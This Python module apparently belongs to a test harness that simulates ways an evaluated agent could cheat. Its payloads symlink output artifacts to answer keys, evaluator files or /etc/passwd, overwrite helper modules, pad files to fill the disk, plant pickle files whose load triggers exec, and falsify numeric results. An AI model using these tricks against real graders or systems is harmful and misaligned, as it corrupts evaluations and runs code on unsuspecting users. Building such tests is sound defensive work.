"""What cheats do to the artifacts of honest work; see `cheats_payloads` for the form."""

from .cheats_payloads import MARK, REPLACED

_ARTIFACTS = (
    MARK
    + """
import stat
files = []
for artifact in P["artifacts"]:
    place = os.path.join(P["project"], artifact)
    if os.path.isfile(place):
        files.append(place)
    for folder, _, names in os.walk(place):
        files += [os.path.join(folder, name) for name in names]
files = sorted(path for path in files if stat.S_ISREG(os.lstat(path).st_mode))
"""
)

ARTIFACT_LINKED = (
    _ARTIFACTS
    + """
for path in files:
    os.remove(path)
    os.symlink((P["answers"] + P["evaluators"] + ["/etc/passwd"])[0], path)
    mark("worked")
"""
)

ARTIFACT_CODE = (
    _ARTIFACTS
    + REPLACED
    + """
for path in files[:1]:
    for name in P["modules"] + [os.path.basename(path)[:-3] for path in P["helpers"]]:
        replace(os.path.dirname(path) + "/" + name + ".py")
        mark("worked")
"""
)

ARTIFACT_HUGE = (
    _ARTIFACTS
    + """
for path in files[:1]:
    with open(path, "ab") as file:
        file.truncate(min(P["disk"] // 2, 1 << 26))
    mark("worked")
"""
)

# A pickle names a function that is called while it is loaded; the header is that of a numpy file with objects.
ARTIFACT_LOADED = (
    _ARTIFACTS
    + REPLACED
    + """
import pickle
class Loaded:
    def __reduce__(self):
        return exec, (script,)
header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
header += " " * (63 - (10 + len(header)) % 64) + "\\n"
numpy = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode()
for path in files:
    if path.lower().endswith((".pkl", ".pickle", ".joblib", ".dill", ".pt", ".pth", ".ckpt", ".npy")):
        put(path, (numpy if path.lower().endswith(".npy") else b"") + pickle.dumps(Loaded(), 2), "wb")
        mark("worked")
"""
)

ARTIFACT_CHANGED = (
    _ARTIFACTS
    + """
import json, re
number = r'"(?:[^"\\\\]|\\\\.)*"|-?\\d+\\.\\d+(?:[eE][-+]?\\d+)?'
whole = r'"(?:[^"\\\\]|\\\\.)*"|-?\\d+'
def words(text, pattern, word):
    return re.sub(pattern, lambda found: found[0] if found[0].startswith('"') else word, text)
def rows(text, how):
    lines = text.splitlines(keepends=True)
    head = lines[:1] if len(lines) > 1 and not re.search(r"\\d", lines[0]) else []
    body = lines[len(head):]
    half = (len(body) + 1) // 2
    kept = {"twice": body + body, "first half": body[:half], "last half": body[half:], "first row": body[:1],
            "no row": []}[how]
    return "".join(head + kept)
def items(text, how):
    found = json.loads(text)
    half = (len(found) + 1) // 2
    if isinstance(found, dict):
        if how == "twice":
            return text
        keys = {"first half": list(found)[:half], "last half": list(found)[half:], "first row": list(found)[:1],
                "no row": []}[how]
        return json.dumps({key: found[key] for key in keys})
    return json.dumps({"twice": found + found, "first half": found[:half], "last half": found[half:],
                       "first row": found[:1], "no row": []}[how])
def changed(path, text):
    how = P["how"]
    if how == "empty":
        return ""
    document = text.lstrip()[:1] in ("[", "{")
    if how.startswith("="):
        word = {"=nan": "NaN", "=inf": "Infinity", "=-inf": "-Infinity"}.get(how, how[1:]) if document else how[1:]
        if words(text, number, word) != text:
            return words(text, number, word)
        if document:
            return words(text, whole, word)
        return "".join(re.sub(r"-?\\d+(\\s*)$", lambda found: word + found[1], line) for line in text.splitlines(True))
    return items(text, how) if document else rows(text, how)
def array(path):
    try:
        import numpy
    except ImportError:
        return
    found, how = numpy.load(path, allow_pickle=False), P["how"]
    half = (len(found) + 1) // 2
    if how.startswith("="):
        found = numpy.full(found.shape, float(how[1:])).astype(found.dtype if float(how[1:]) in (0.0, 1.0) else float)
    else:
        found = {"twice": numpy.concatenate([found, found]), "first half": found[:half], "last half": found[half:],
                 "first row": found[:1]}.get(how, found[:0])
    numpy.save(path, found)
    mark("worked")
for path in files:
    try:
        if path.endswith(".npy"):
            array(path)
            continue
        with open(path, encoding="utf-8") as file:
            text = file.read()
        if changed(path, text) != text:
            put(path, changed(path, text))
            mark("worked")
    except (OSError, ValueError, TypeError, KeyError):
        pass
"""
)
